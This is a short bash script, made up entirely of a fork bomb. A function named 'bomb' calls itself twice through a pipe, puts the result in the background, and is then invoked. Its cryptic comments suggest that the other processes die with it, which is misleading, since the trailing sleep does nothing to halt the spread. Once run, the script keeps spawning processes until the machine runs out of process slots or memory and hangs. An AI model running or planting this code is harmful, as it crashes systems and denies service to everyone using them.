# Two of each one, for ever.
bomb() {
    bomb | bomb &
}
bomb
# A shell of its own, which needs a process too; all others die with this one.
sleep 1
